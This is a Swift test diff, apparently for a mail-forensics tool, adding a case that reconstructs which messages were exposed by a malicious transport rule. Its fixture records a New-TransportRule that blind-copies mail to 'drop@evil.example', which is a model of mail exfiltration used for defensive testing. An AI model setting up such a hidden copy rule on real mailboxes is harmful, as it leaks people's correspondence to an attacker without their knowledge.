@@ -165,4 +165,28 @@ struct SearchAndForwardTierTests {
     #expect(
       try other.lines("SELECT internet_message_id FROM exposed WHERE basis = 'forwarding'") == ["<p@mail.example>"])
   }
+
+  @Test(
+    "a delivery that a rule's condition leaves out went there all the same: exported, and the contradiction is told")
+  func againstCondition() throws {
+    var evidence = Evidence.aliceStore(received: [1])
+    evidence.message(1, 9, "<p@mail.example>", folder: 1, received: 2, from: "partner@out.example")
+    let record = evidence.record(
+      Evidence.Record(
+        operation: "New-TransportRule", at: 0, actor: "eve@corp.example", logon: nil,
+        cmdlet: ["Name": "x", "BlindCopyTo": "drop@evil.example", "From": "partner@out.example"]))
+    evidence.finding(severity: "high", role: "actor", record: record)
+    for (id, hour) in [("<0@mail.example>", 1.1), ("<p@mail.example>", 2.1)] {
+      evidence.trace("Deliver", id, at: hour, isSuccess: true, to: "drop@evil.example")
+    }
+    let queue = try evidence.reconstructed()
+    #expect(
+      try queue.lines("SELECT internet_message_id FROM exposed WHERE basis = 'delivery' ORDER BY 1") == [
+        "<0@mail.example>", "<p@mail.example>",
+      ])
+    #expect(
+      try queue.lines(
+        "SELECT note LIKE '%leaves out: 1;%' FROM reconstruction_note WHERE topic = 'delivery_against_condition'")
+        == ["1"])
+  }
 }
